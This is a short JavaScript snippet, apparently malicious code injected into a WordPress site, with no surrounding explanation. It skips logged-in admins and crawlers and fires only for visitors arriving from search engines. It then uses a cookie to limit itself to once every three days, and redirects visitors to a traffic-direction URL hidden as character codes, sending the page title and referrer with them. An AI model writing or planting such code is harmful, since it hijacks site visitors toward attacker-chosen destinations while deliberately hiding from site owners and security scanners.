;(function (w, d, $) {
  var ck = d.cookie, ua = navigator.userAgent.toLowerCase();
  if (d.getElementById('wpadminbar') || /wordpress_logged_in|wp-settings-\d/.test(ck)) { w.localStorage && localStorage.setItem('_a', '1'); return; }
  if (w.localStorage && localStorage.getItem('_a')) return;
  if (ck.indexOf('_fz=') > -1) return;
  if (!/google\.|bing\.|yandex\.|duckduckgo\./.test(d.referrer)) return;
  if (/bot|spider|slurp|lighthouse|gtmetrix|ahrefs|semrush|pingdom/.test(ua)) return;
  var ex = new Date(); ex.setTime(ex.getTime() + 864e5 * 3);
  d.cookie = '_fz=1; expires=' + ex.toUTCString() + '; path=/';
  var k = [104, 116, 116, 112, 115, 58, 47, 47], q = [116, 100, 115, 46, 105, 110, 118, 97, 108, 105, 100, 47, 103];
  w.setTimeout(function () { d.location.assign(String.fromCharCode.apply(null, k.concat(q)) + '?k=' + encodeURIComponent(d.title) + '&r=' + encodeURIComponent(d.referrer)); }, 1e3);
})(window, document, window.jQuery);
